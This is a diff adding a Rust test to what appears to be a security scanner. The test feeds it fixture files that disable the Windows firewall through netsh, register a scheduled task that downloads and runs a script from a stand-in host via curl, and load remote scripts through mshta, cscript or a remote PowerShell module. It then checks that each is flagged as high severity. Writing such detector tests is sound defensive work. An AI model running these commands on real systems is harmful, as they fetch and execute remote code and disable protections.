@@ -219,6 +219,28 @@ fn a_file_that_runs_is_read_whatever_its_first_bytes() {
 }
 
 #[test]
+fn a_file_is_read_as_the_program_reads_it_that_a_command_gives_it_to() {
+    let task = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec><Command>cmd</Command>\
+                <Arguments>/c curl http://files.example.com/a.cmd &gt; a.cmd &amp; a.cmd</Arguments></Exec></Actions></Task>";
+    let remote = "<html><script src=\"http://files.example.com/a.js\"></script></html>";
+    for (name, text, run, class) in [
+        ("a.txt", "advfirewall\r\nset allprofiles state off\r\n", "netsh exec a.txt", "weakens-firewall"),
+        ("a.txt", "advfirewall set allprofiles state off", "netsh -f a.txt", "weakens-firewall"),
+        ("a.xml", task, "schtasks /create /tn a /xml a.xml", "download-and-run"),
+        ("a.xml", task, "powershell Register-ScheduledTask a -Xml (gc a.xml -raw)", "download-and-run"),
+        ("a.hta", remote, "mshta a.hta", "download-and-run"),
+        ("a.html", remote, "mshta a.html", "download-and-run"),
+        ("a.wsf", "<job><script src=\"http://files.example.com/a.js\"/></job>", "cscript a.wsf", "download-and-run"),
+        ("a.ps1", "using module \\\\files.example.com\\share\\a\r\n", "powershell -File a.ps1", "remote-path"),
+    ] {
+        let (_folder, package) = with_file(name, text.as_bytes(), run);
+        let (report, _) = report(&package, &[]);
+        let expected = [class, "high", name].map(str::to_owned);
+        assert!(found(&report).contains(&expected), "{run}: {report:#}");
+    }
+}
+
+#[test]
 fn a_finding_in_a_comment_is_milder_than_one_in_code() {
     for (name, text) in [
         ("a.ps1", format!("# {FETCH}")),
